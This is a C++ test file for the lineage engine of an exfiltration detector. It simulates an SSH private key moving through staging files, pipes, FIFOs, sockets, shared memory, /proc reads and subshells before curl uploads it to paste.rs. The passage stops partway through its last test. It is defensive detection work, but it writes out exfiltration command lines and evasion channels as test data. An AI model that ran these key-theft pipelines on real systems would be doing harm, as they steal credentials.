// Tests detect/lineage.cpp, the data-flow model: each channel data can take (files by identity,
// staging chains, pipes, FIFOs, UNIX and loopback sockets, shared mappings, fork, command
// substitution), what must not join (siblings, background jobs, untainted writers of system
// files), no deadline, bytes carried, classifications redone on a rules reload, eviction
// reported, bounded work.
#include <doctest/doctest.h>

#include "timeline.hpp"

using namespace exfilwatch;
using namespace exfilwatch::detect;
using namespace exfilwatch::detect::test;

namespace {

const std::string key = home + "/.ssh/id_ed25519";
constexpr TimeNs hour_ms = 3'600'000;

ProcessRef curl_post(Timeline& tl, const ProcessRef& parent, std::uint64_t stdin_pipe = 0)
{
    return tl.spawn(parent, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"}, {}, 0, stdin_pipe, 0,
                    StdoutKind::other);
}

bool silent(const Timeline& tl)
{
    return tl.alerts.empty();
}

}  // namespace

TEST_CASE("a hard link at a harmless name is the same sensitive file (device, inode)")
{
    Timeline tl;
    constexpr std::uint64_t ino = 424242;
    auto ls = tl.spawn(tl.shell, {"ssh-add", "-l"});
    tl.read(ls, key, 411, ino);  // its own use: but the inode is now known
    tl.exit(ls);
    auto cat = tl.spawn(tl.shell, {"cat", "/tmp/notes.txt"}, {}, 0, 0, 7001);
    tl.read(cat, "/tmp/notes.txt", 411, ino);
    tl.exit(cat);
    auto curl = curl_post(tl, tl.shell, 7001);
    tl.transfer(curl, "paste.rs", 1300 + 411, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].files[0].sensitive_class == "ssh-key");
}

TEST_CASE("a seeded sensitive inode classifies its first read at another name")
{
    Timeline tl;
    tl.engine.seed_sensitive(key, 2049, 5151);
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/x", "https://paste.rs/"});
    tl.read(curl, "/tmp/x", 411, 5151);
    tl.transfer(curl, "paste.rs", 1300 + 411, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].files[0].sensitive_class == "ssh-key");
}

TEST_CASE("a staging chain of four hops through /dev/shm and /tmp, uploaded two hours later")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
    tl.open_write(cat, "/dev/shm/.a", 801);
    tl.read(cat, key, 2600);
    tl.wrote(cat, "/dev/shm/.a", 801);
    tl.exit(cat);
    const char* paths[] = {"/dev/shm/.a", "/tmp/.b", "/var/tmp/.c", "/dev/shm/.d"};
    for (int i = 0; i < 3; ++i) {
        auto cp = tl.spawn(tl.shell, {"cp", paths[i], paths[i + 1]}, {}, 0, 0, 0, StdoutKind::other);
        tl.read(cp, paths[i], 2600, 801 + i);
        tl.open_write(cp, paths[i + 1], 802 + i);
        tl.exit(cp);
        tl.step(hour_ms / 2);
    }
    tl.step(hour_ms);
    auto curl =
        tl.spawn(tl.shell, {"curl", "-sk", "-T", paths[3], "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
    tl.read(curl, paths[3], 2600, 804);
    tl.transfer(curl, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    const auto& a = tl.alerts[0];
    CHECK(a.subtechnique_id == "T1567.003");
    CHECK(a.reason.find("cat read ~/.ssh/id_ed25519") != std::string::npos);
    bool last_hop = false;
    for (const auto& f : a.files) last_hop |= f.path == "/dev/shm/.d" && f.sensitive_class.empty();
    CHECK(last_hop);
}

TEST_CASE("a file rewritten with O_TRUNC by an untainted writer no longer holds the data")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
    tl.open_write(cat, "/tmp/stage", 901);
    tl.read(cat, key, 2600);
    tl.wrote(cat, "/tmp/stage", 901);
    tl.exit(cat);
    auto gen = tl.spawn(tl.shell, {"head", "-c", "4000", "/dev/urandom"}, {}, 0, 0, 0, StdoutKind::file);
    tl.open_write(gen, "/tmp/stage", 901);
    tl.exit(gen);
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/stage", "https://paste.rs/"});
    tl.read(curl, "/tmp/stage", 4000, 901);
    tl.transfer(curl, "paste.rs", 1300 + 4000, 400);
    CHECK(silent(tl));
}

TEST_CASE("a provisioner rewriting /etc/hosts links nothing: an unrelated upload stays silent")
{
    Timeline tl;
    auto ssh = tl.spawn(tl.shell, {"ssh", "-i", key, "host", "true"});  // own use of the key
    tl.read(ssh, key, 411);
    tl.exit(ssh);
    auto prov = tl.start_session({"ansible-playbook", "site.yml"});
    tl.open_write(prov, "/etc/hosts", 77);
    tl.exit(prov);
    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/report.txt", "https://paste.rs/"});
    tl.read(curl, "/etc/hosts", 300, 77);
    tl.read(curl, "/tmp/report.txt", 5000, 78);
    tl.transfer(curl, "paste.rs", 1300 + 5000, 400);
    CHECK(silent(tl));
}

TEST_CASE("a FIFO across setsid joins a writer and a reader that never met")
{
    Timeline tl;
    auto writer = tl.start_session({"cat", key});
    tl.read(writer, key, 2600);
    tl.object_io(writer, ObjectKind::fifo, 3131, IoDirection::write, 2600);
    tl.exit(writer);
    auto reader = tl.start_session({"curl", "-sk", "--data-binary", "@/tmp/ff", "https://paste.rs/"});
    tl.object_io(reader, ObjectKind::fifo, 3131, IoDirection::read, 2600);
    tl.transfer(reader, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].reason.find("cat read ~/.ssh/id_ed25519") != std::string::npos);

    // The reader of another FIFO stays silent.
    Timeline other;
    auto w2 = other.start_session({"cat", key});
    other.read(w2, key, 2600);
    other.object_io(w2, ObjectKind::fifo, 3131, IoDirection::write, 2600);
    auto r2 = other.start_session({"curl", "-sk", "--data-binary", "@/tmp/gg", "https://paste.rs/"});
    other.object_io(r2, ObjectKind::fifo, 3232, IoDirection::read, 2600);
    other.transfer(r2, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(other));
}

TEST_CASE("another process's memory carries what its owner held when the copy was made")
{
    // Read out of a key holder's memory by an unrelated process, which uploads it.
    for (bool late : {false, true}) {
        Timeline tl;
        auto holder = tl.start_session({"python3", "hold.py"});
        auto thief = tl.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
        if (late) {
            // The holder's read is learnt after the copy (its summary comes later), but happened first.
            auto read_at = tl.t;
            tl.step(5);
            tl.memory_io(thief, holder, IoDirection::read, 2600);
            auto now = tl.t;
            tl.t = read_at;
            tl.read(holder, key, 2600);
            tl.t = now;
        } else {
            tl.read(holder, key, 2600);
            tl.memory_io(thief, holder, IoDirection::read, 2600);
        }
        tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
        REQUIRE_FALSE(silent(tl));
        CHECK(tl.alerts[0].reason.find("python3 read ~/.ssh/id_ed25519") != std::string::npos);
    }

    // Written into another process's memory by the key's reader: the owner holds it.
    Timeline poked;
    auto poker = poked.start_session({"python3", "poke.py"});
    auto owner = poked.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    poked.read(poker, key, 2600);
    poked.memory_io(poker, owner, IoDirection::write, 2600);
    poked.transfer(owner, "paste.rs", 1300 + 2600, 400);
    CHECK_FALSE(silent(poked));

    // Copied before the owner read the key (longer before than the kernel's one report a second
    // per pair can blur): the copy holds none of it.
    Timeline early;
    auto h2 = early.start_session({"python3", "hold.py"});
    auto t2 = early.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    early.memory_io(t2, h2, IoDirection::read, 2600);
    early.step(2000);
    early.read(h2, key, 2600);
    early.transfer(t2, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(early));

    // A later reader of the owner's memory does not reach an earlier one, nor does an event
    // that could not name whose memory it was.
    Timeline two;
    auto h3 = two.start_session({"python3", "hold.py"});
    auto first = two.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    auto second = two.start_session({"python3", "peek.py"});
    two.memory_io(first, h3, IoDirection::read, 2600);
    two.step(2000);
    two.read(h3, key, 2600);
    two.memory_io(second, h3, IoDirection::read, 2600);
    ProcessRef nobody;
    two.memory_io(first, nobody, IoDirection::read, 2600);
    two.transfer(first, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(two));
}

TEST_CASE("another process's environment carries what its owner held at its exec, not what it read since")
{
    // `AWS_SECRET=$(cat credentials) sleep 600 &`: the shell held the key when it forked the
    // child that exec'd; an unrelated process reads the child's environment and uploads it.
    Timeline tl;
    auto shell = tl.start_session({"bash", "deploy.sh"});
    tl.read(shell, key, 2600);
    auto holder = tl.spawn(shell, {"sleep", "600"});
    auto thief = tl.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    tl.memory_io(thief, holder, IoDirection::read, 2600, ObjectKind::process_environ);
    tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].reason.find("bash read ~/.ssh/id_ed25519") != std::string::npos);

    // A process that read the key after its exec (an agent holding it) has no key in its
    // environment: reading that carries nothing, while reading its memory does.
    for (auto kind : {ObjectKind::process_environ, ObjectKind::process_memory}) {
        Timeline after;
        auto agent = after.start_session({"python3", "agent.py"});
        after.read(agent, key, 2600);
        auto reader = after.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
        after.memory_io(reader, agent, IoDirection::read, 2600, kind);
        after.transfer(reader, "paste.rs", 1300 + 2600, 400);
        CHECK(silent(after) == (kind == ObjectKind::process_environ));
    }
}

TEST_CASE("another process's command line carries a file's data only where an argument holds its bytes")
{
    // `sleep 600 "$(cat key)"` from a shell that read the key; an unrelated process reads the
    // sleep's /proc/PID/cmdline and uploads it.
    Timeline tl;
    auto shell = tl.start_session({"bash", "deploy.sh"});
    tl.read(shell, key, 2600);
    auto holder = tl.spawn(shell, {"sleep", "600", "-----BEGIN OPENSSH PRIVATE KEY-----"});
    tl.argv_scan(holder, key);
    auto thief = tl.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    tl.memory_io(thief, holder, IoDirection::read, 2600, ObjectKind::process_cmdline);
    tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].reason.find("bash read ~/.ssh/id_ed25519") != std::string::npos);

    // Twin: a command the holder started with nothing of the key in its arguments (ps, top and
    // monitoring agents read every command line).
    Timeline plain;
    auto shell2 = plain.start_session({"bash", "deploy.sh"});
    plain.read(shell2, key, 2600);
    auto job = plain.spawn(shell2, {"sleep", "600"});
    auto agent = plain.start_session({"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    plain.memory_io(agent, job, IoDirection::read, 2600, ObjectKind::process_cmdline);
    plain.transfer(agent, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(plain));
}

TEST_CASE("a shared mapping joins its mappers while it lives, whichever side was mapped first")
{
    // A System V segment or a file both map before the key is read; the holder copies the key
    // into its mapping (no syscall), the other side's upload carries it.
    for (bool reader_first : {true, false}) {
        Timeline tl;
        auto holder = tl.start_session({"python3", "holder.py"});
        auto thief = tl.start_session({"python3", "thief.py"});
        if (reader_first) tl.map_shared(thief, 777, false);
        tl.map_shared(holder, 777, true);
        if (!reader_first) tl.map_shared(thief, 777, false);
        tl.step(hour_ms);
        tl.read(holder, key, 2600);
        tl.transfer(thief, "paste.rs", 1300 + 2600, 400);
        REQUIRE_FALSE(silent(tl));
        CHECK(tl.alerts[0].reason.find("python3 read ~/.ssh/id_ed25519") != std::string::npos);
        CHECK(tl.alerts[0].reason.find("[shared memory: inode 777]") != std::string::npos);
    }
    // A write(2) into a file another process maps reaches it; what a mapper writes reaches the
    // file's later readers.
    Timeline file;
    auto mapper = file.start_session({"python3", "watch.py"});
    file.map_shared(mapper, 4242, false);
    auto holder = file.start_session({"python3", "stage.py"});
    file.read(holder, key, 2600);
    file.open_write(holder, "/tmp/stage.bin", 4242, false);
    file.wrote(holder, "/tmp/stage.bin", 4242);
    file.transfer(mapper, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(file));
    Timeline later;
    auto writer = later.start_session({"python3", "stage.py"});
    later.map_shared(writer, 4343, true);
    later.read(writer, key, 2600);
    auto cat = later.start_session({"curl", "-sk", "--data-binary", "@/tmp/stage.bin", "https://paste.rs/"});
    later.read(cat, "/tmp/stage.bin", 2600, 4343);
    later.transfer(cat, "paste.rs", 1300 + 2600, 400);
    CHECK_FALSE(silent(later));

    // Twins: a read-only mapper of a writer that never held the key; a holder that maps only for
    // reading (it cannot write there).
    Timeline ro;
    auto plain = ro.start_session({"python3", "holder.py"});
    auto peer = ro.start_session({"python3", "thief.py"});
    ro.map_shared(plain, 888, true);
    ro.map_shared(peer, 888, false);
    auto holder2 = ro.start_session({"python3", "agent.py"});
    ro.map_shared(holder2, 888, false);
    ro.read(holder2, key, 2600);
    ro.transfer(peer, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(ro));
}

TEST_CASE("a read-only mapper of a file nothing was written to yet gets what a holder writes there")
{
    // A private (or read-only shared) mapping of a scratch file made before any write in sight:
    // the mapper is kept aside, not as an object, and joins the file's object when the holder
    // writes the key into it with write(2).
    Timeline tl;
    auto watcher = tl.start_session({"python3", "watch.py"});
    tl.map_shared(watcher, 5151, false);
    auto holder = tl.start_session({"python3", "stage.py"});
    tl.step(hour_ms);
    tl.read(holder, key, 2600);
    tl.open_write(holder, "/tmp/scratch.map", 5151, false);
    tl.wrote(holder, "/tmp/scratch.map", 5151);
    tl.transfer(watcher, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].process.entity_id == watcher.entity_id);
    CHECK(tl.alerts[0].reason.find("/tmp/scratch.map") != std::string::npos);

    // The holder opened the file before it read the key (a repeat open is not reported), so its
    // write is learnt from the summary at its exit, after the mapper staged what it saw: dated at
    // the write, the mapper's staging file written since holds it.
    Timeline late;
    auto w2 = late.start_session({"python3", "watch.py"});
    late.map_shared(w2, 5454, false);
    auto h4 = late.start_session({"python3", "stage.py"});
    late.open_write(h4, "/tmp/scratch.map", 5454, false);
    late.read(h4, key, 2600);
    const TimeNs written = late.t;
    late.step();
    late.open_write(w2, "/tmp/seen.bin", 5455);
    late.wrote(w2, "/tmp/seen.bin", 5455);
    late.feed(FileSummaryEvent{late.t, h4, "/tmp/scratch.map", 5454, 2049, 0, 0, true, written});
    late.step();
    auto up = late.start_session({"curl", "-sk", "-T", "/tmp/seen.bin", "https://paste.rs/"});
    late.read(up, "/tmp/seen.bin", 2600, 5455);
    late.transfer(up, "paste.rs", 1300 + 2600, 400);
    CHECK_FALSE(silent(late));

    // Twins: a mapper that exec'd (a new address space) before the write, and a file mapped by
    // many readers (a build's headers) that a holder never writes.
    Timeline execd;
    auto py = execd.spawn(execd.shell, {"python3", "watch.py"}, "/usr/bin/python3.11");
    execd.map_shared(py, 5252, false);
    auto curl = execd.spawn(py, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    auto h2 = execd.start_session({"python3", "stage.py"});
    execd.read(h2, key, 2600);
    execd.open_write(h2, "/tmp/scratch.map", 5252, false);
    execd.wrote(h2, "/tmp/scratch.map", 5252);
    execd.transfer(curl, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(execd));
    Timeline build;
    auto cc = build.start_session({"clang", "-c", "main.c"});
    const auto objects_before = build.engine.stats().staged_files;
    for (std::uint64_t header = 1; header <= 6000; ++header) build.map_shared(cc, 100000 + header, false, 512);
    CHECK(build.engine.stats().staged_files == objects_before);  // none of them is an object
    auto h3 = build.start_session({"python3", "stage.py"});
    build.read(h3, key, 2600);
    build.transfer(cc, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(build));
}

TEST_CASE("an anonymous shared mapping is shared with the children forked after it, until they exec")
{
    // mmap(MAP_SHARED|MAP_ANONYMOUS), fork, then the parent reads the key into the mapping: the
    // child, forked before the read, sees it.
    Timeline tl;
    auto py = tl.spawn(tl.shell, {"python3", "agent.py"}, "/usr/bin/python3.11");
    tl.map_shared(py, 991, true);
    auto child = tl.fork(py);
    tl.read(py, key, 2600);
    tl.transfer(child, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].process.entity_id == child.entity_id);

    // Twins: a child forked before the mapping was made, and one that exec'd (a new address
    // space) before the parent read the key.
    Timeline before;
    auto p2 = before.spawn(before.shell, {"python3", "agent.py"}, "/usr/bin/python3.11");
    auto early = before.fork(p2);
    before.map_shared(p2, 992, true);
    auto execd = before.spawn(p2, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    before.step(hour_ms);
    before.read(p2, key, 2600);
    before.transfer(early, "paste.rs", 1300 + 2600, 400);
    before.transfer(execd, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(before));
}

TEST_CASE("UNIX stream, datagram and socketpair channels carry taint, also when the read came first")
{
    for (auto order : {0, 1}) {
        Timeline tl;
        auto server = tl.start_session({"python3", "srv.py"});
        auto client = tl.start_session({"python3", "cli.py"});
        if (order == 0) {
            tl.read(client, key, 2600);
            tl.object_io(client, ObjectKind::unix_socket, 6060, IoDirection::write, 2600);
            tl.object_io(server, ObjectKind::unix_socket, 6060, IoDirection::read, 2600);
        } else {
            // The reader's record arrives before the writer read the key (another CPU).
            tl.object_io(server, ObjectKind::unix_socket, 6060, IoDirection::read, 2600);
            tl.object_io(client, ObjectKind::unix_socket, 6060, IoDirection::write, 2600);
            tl.read(client, key, 2600);
        }
        tl.transfer(server, "paste.rs", 1300 + 2600, 400);
        REQUIRE_FALSE(silent(tl));
        CHECK(tl.alerts[0].files[0].sensitive_class == "ssh-key");
    }
}

TEST_CASE("a loopback TCP relay and its next hop: any number of processes")
{
    Timeline tl;
    auto reader = tl.start_session({"python3", "a.py"});
    tl.read(reader, key, 2600);
    tl.object_io(reader, ObjectKind::loopback_socket, 0xabc, IoDirection::write, 2600);
    auto relay = tl.start_session({"socat", "tcp-l:9999", "-"});
    tl.object_io(relay, ObjectKind::loopback_socket, 0xabc, IoDirection::read, 2600);
    tl.object_io(relay, ObjectKind::unix_socket, 0xdef, IoDirection::write, 2600);
    auto up = tl.start_session({"python3", "b.py"});
    tl.object_io(up, ObjectKind::unix_socket, 0xdef, IoDirection::read, 2600);
    tl.transfer(up, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
}

TEST_CASE("bytes: a channel carries at most what moved through it")
{
    auto rules = builtin();
    Lineage l(rules);
    ProcessRef reader, up;
    reader.entity_id = "r";
    reader.name = "python3";
    reader.args = {"python3", "a.py"};
    up = reader;
    up.entity_id = "u";
    l.on_exec(reader, 10);
    l.on_exec(up, 11);
    l.on_read(reader, 12, key, 2049, 5, 2600);
    ObjectIoEvent w{13, reader, ObjectKind::unix_socket, 77, 0, IoDirection::write, 4, 40};
    ObjectIoEvent r{14, up, ObjectKind::unix_socket, 77, 0, IoDirection::read, 4, 40};
    l.on_object_io(w);
    l.on_object_io(r);
    auto v = l.view("u", 15);
    REQUIRE(v.sources.size() == 1);
    CHECK(v.sources[0].bytes == 40);
    auto direct = l.view("r", 15);
    REQUIRE(direct.sources.size() == 1);
    CHECK(direct.sources[0].bytes == 2600);
    CHECK(direct.sources[0].origin == v.sources[0].origin);  // one lineage: trickles add up per origin
    // More moved later: the cap follows the cumulative count, never past what was read.
    w.bytes = r.bytes = 9000;
    l.on_object_io(w);
    l.on_object_io(r);
    CHECK(l.view("u", 16).sources[0].bytes == 2600);
}

TEST_CASE("fork: a child forked after its parent read is tainted, one forked before is not")
{
    Timeline tl;
    auto py = tl.spawn(tl.shell, {"python3", "agent.py"}, "/usr/bin/python3.11");
    auto before = tl.spawn(py, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    tl.read(py, key, 2600);
    tl.transfer(before, "paste.rs", 1300 + 2600, 400);
    CHECK(silent(tl));
    tl.step(hour_ms);
    auto after = tl.spawn(py, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
    tl.transfer(after, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].process.entity_id == after.entity_id);
}

TEST_CASE("a parent learns from a child only through an object; siblings and background jobs do not join")
{
    // cat key > /dev/null &  then curl -T report: no object between them.
    Timeline tl;
    auto bg = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::other);
    tl.open_read(bg, key);
    auto curl =
        tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/r", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
    tl.summary(bg, key, 2600);
    tl.read(curl, "/tmp/r", 4000, 12);
    tl.transfer(curl, "paste.rs", 1300 + 4000, 400);
    tl.exit(bg);
    CHECK(silent(tl));
    // The twin: the background job's output reaches curl through a pipe.
    Timeline twin;
    auto bg2 = twin.spawn(twin.shell, {"cat", key}, {}, 0, 0, 8080);
    auto curl2 = twin.spawn(twin.shell, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"}, {}, 0, 8080, 0,
                            StdoutKind::other);
    twin.read(bg2, key, 2600);
    twin.transfer(curl2, "paste.rs", 1300 + 2600, 400);
    CHECK_FALSE(silent(twin));
}

TEST_CASE("command substitution at depth 3 through forked subshells: curl -d \"$( ( (cat f | base64) ) )\"")
{
    Timeline tl;
    auto s1 = tl.fork(tl.shell);
    auto s2 = tl.fork(s1);
    auto s3 = tl.fork(s2);
    auto cat = tl.spawn(s3, {"cat", key}, {}, 0, 0, 4001);
    auto b64 = tl.spawn(s3, {"base64", "-w0"}, {}, 0, 4001, 4002);
    tl.read(cat, key, 411);
    tl.exit(cat);
    tl.exit(b64);
    tl.exit(s3);
    tl.exit(s2);
    tl.exit(s1);
    auto curl =
        tl.spawn(tl.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
    tl.transfer(curl, "paste.rs", 1300 + 600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].subtechnique_id == "T1567.003");

    // With channel telemetry the same is exact: the shell's read of the pipe is seen.
    Timeline exact;
    auto c = exact.spawn(exact.shell, {"cat", key}, {}, 0, 0, 4101);
    exact.read(c, key, 411);
    exact.object_io(c, ObjectKind::pipe, 4101, IoDirection::write, 411);
    exact.object_io(exact.shell, ObjectKind::pipe, 4101, IoDirection::read, 411);
    exact.exit(c);
    auto up =
        exact.spawn(exact.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
    exact.transfer(up, "paste.rs", 1300 + 600, 400);
    CHECK_FALSE(silent(exact));
}

TEST_CASE("defect 16.1: after a rules reload, no file class of the old rules survives")
{
    auto without_ssh = [] {
        auto r = builtin();
        std::erase_if(r.sensitive, [](const SensitiveClass& c) { return c.name == "ssh-key"; });
        return r;
    };
    auto scenario = [&](Timeline& tl, bool reload) {
        auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 9901);
        tl.read(cat, key, 2600);
        tl.exit(cat);
        if (reload) tl.engine.replace_rules(without_ssh());
        auto curl = curl_post(tl, tl.shell, 9901);
        tl.transfer(curl, "rentry.co", 1300 + 2600, 400);
    };
    Timeline fresh(without_ssh());
    scenario(fresh, false);
    CHECK(silent(fresh));
    Timeline reloaded;
    scenario(reloaded, true);
    CHECK(silent(reloaded));  // failed before: the old ssh-key class still scored 93
    Timeline kept;
    scenario(kept, false);
    CHECK_FALSE(silent(kept));
}

TEST_CASE("evicting tainted state is counted and reported as a blind spot")
{
    auto r = builtin();
    r.settings.max_processes = 16;
    r.settings.max_staging_files = 16;
    Timeline tl(std::move(r));
    for (int i = 0; i < 64; ++i) {
        auto p = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
        tl.open_write(p, "/tmp/s" + std::to_string(i), 20000 + i);
        tl.read(p, key, 2600);
        tl.wrote(p, "/tmp/s" + std::to_string(i), 20000 + i);
    }
    tl.step(2000);
    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // lets the engine run its expiry
    auto spots = tl.engine.take_blind_spots();
    REQUIRE_FALSE(spots.empty());
    std::uint64_t lost = 0;
    for (const auto& b : spots) {
        CHECK(b.cause == "taint_evicted");
        CHECK_FALSE(b.processes.empty());
        CHECK(b.processes.size() <= 8);
        lost += b.lost;
    }
    CHECK(lost > 0);
    CHECK(tl.engine.lineage().stats().evicted_taint == lost);
    CHECK(tl.engine.lineage().stats().processes <= 16);
    CHECK(tl.engine.lineage().stats().staged_files <= 16);
    CHECK(tl.engine.take_blind_spots().empty());  // taken once
}

TEST_CASE("untainted churn evicts without a blind spot")
{
    auto r = builtin();
    r.settings.max_processes = 16;
    Timeline tl(std::move(r));
    for (int i = 0; i < 64; ++i) tl.spawn(tl.shell, {"true"});
    tl.step(2000);
    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});
    CHECK(tl.engine.take_blind_spots().empty());
    CHECK(tl.engine.lineage().stats().evicted_processes > 0);
}

TEST_CASE("bounded cost: the work of one pipeline does not grow with the tables")
{
    auto measure = [](int background) {
        auto rules = builtin();
        Lineage l(rules);
        TimeNs t = 1'000'000'000;
        auto ref = [&](std::uint32_t pid, std::string name, std::uint64_t in, std::uint64_t out) {
            ProcessRef p;
            p.pid = pid;
            p.entity_id = "e" + std::to_string(pid);
            p.parent_entity_id = "shell";
            p.name = name;
            p.args = {name};
            p.stdin_pipe = in;
            p.stdout_pipe = out;
            p.stdout_kind = out ? StdoutKind::pipe : StdoutKind::other;
            p.start_time = t;
            return p;
        };
        ProcessRef shell;
        shell.entity_id = "shell";
        shell.name = "bash";
        shell.args = {"bash"};
        l.on_exec(shell, t);
        // Tainted background: many holders, many tainted files and pipes.
        for (int i = 0; i < background; ++i) {
            auto p = ref(100000 + i, "cat", 0, 500000 + i);
            l.on_exec(p, ++t);
            l.on_read(p, ++t, key, 2049, 1, 2600);
            l.on_write(p, ++t, "/tmp/f" + std::to_string(i), 2049, 700000 + i, true);
        }
        auto before = l.stats().work;
        auto cat = ref(1, "cat", 0, 42);
        auto b64 = ref(2, "base64", 42, 43);
        auto up = ref(3, "curl", 43, 0);
        l.on_exec(cat, ++t);
        l.on_exec(b64, ++t);
        l.on_exec(up, ++t);
        l.on_read(cat, ++t, key, 2049, 1, 2600);
        auto v = l.view("e3", t);
        CHECK(v.sources.size() == 1);
        return l.stats().work - before;
    };
    auto small = measure(100);
    auto large = measure(10000);
    CHECK(small > 0);
    CHECK(large == small);
}

TEST_CASE("a parent writes the stdin pipe of a child it spawned: tar czf runs gzip > archive")
{
    Timeline tl;
    auto tar = tl.spawn(tl.shell, {"tar", "czf", "/tmp/d.tgz", "Documents"}, {}, 0, 0, 0, StdoutKind::other);
    auto sh = tl.fork(tar);
    tl.open_write(sh, "/tmp/d.tgz", 5501);
    ProcessRef gz = sh;
    gz.executable = "/usr/bin/gzip";
    gz.name = "gzip";
    gz.args = {"gzip"};
    gz.stdin_pipe = 6601;
    gz.stdout_kind = StdoutKind::file;
    tl.feed(ExecEvent{tl.t, gz});
    tl.step();
    tl.read(tar, key, 2600);
    tl.wrote(gz, "/tmp/d.tgz", 5501);  // gzip writes what reached it after it did
    tl.exit(gz);
    tl.exit(tar);
    auto curl =
        tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/d.tgz", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
    tl.read(curl, "/tmp/d.tgz", 2000, 5501);
    tl.transfer(curl, "paste.rs", 1300 + 2000, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].reason.find("staged in /tmp/d.tgz") != std::string::npos);
}

TEST_CASE("no deadline on a pipe: cat key | (sleep 3600; curl -d @-) alerts after its writer is long gone")
{
    Timeline tl;
    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 7301);
    auto sub = tl.fork(tl.shell);  // holds the read end; no exec record says so
    tl.read(cat, key, 2600);
    tl.exit(cat);
    for (int i = 0; i < 60; ++i) {  // an hour of other activity: expiry runs, exited processes go
        tl.step(60'000);
        tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});
    }
    CHECK(tl.engine.lineage().find(cat.entity_id) == nullptr);
    auto curl = curl_post(tl, sub, 7301);
    tl.transfer(curl, "paste.rs", 1300 + 2600, 400);
    REQUIRE_FALSE(silent(tl));
    CHECK(tl.alerts[0].reason.find("cat read ~/.ssh/id_ed25519") != std::string::npos);
}

TEST_CASE("caps hold when many objects appear at the same instant")
{
    auto rules = builtin();
    rules.settings.max_staging_files = 16;
    Lineage l(rules);
    ProcessRef p;
    p.entity_id = "w";
    p.name = "cat";
    p.args = {"cat"};
    l.on_exec(p, 5);
    l.on_read(p, 5, key, 2049, 1, 2600);
    for (std::uint64_t i = 0; i < 200; ++i) l.on_write(p, 5, "/tmp/f" + std::to_string(i), 2049, 100 + i, true);
    CHECK(l.stats().staged_files <= 16);
    CHECK(l.stats().evicted_taint > 0);
    CHECK_FALSE(l.take_blind_spots().empty());
}

TEST_CASE("order within a process: only what a holder wrote once it held the data holds it")
{
    // `stage`: how the script treats /tmp/report.txt around its key read.
    enum class Stage : std::uint8_t { written_before, open_before_written_after, opened_after };
    auto run = [](Stage stage) {
        Timeline tl;
        constexpr std::uint64_t ino = 5300;
        auto py = tl.spawn(tl.shell, {"python3", "job.py"}, "/usr/bin/python3.11", 0, 0, 0, StdoutKind::other);
        if (stage != Stage::opened_after) tl.open_write(py, "/tmp/report.txt", ino);
        if (stage == Stage::written_before) tl.wrote(py, "/tmp/report.txt", ino);
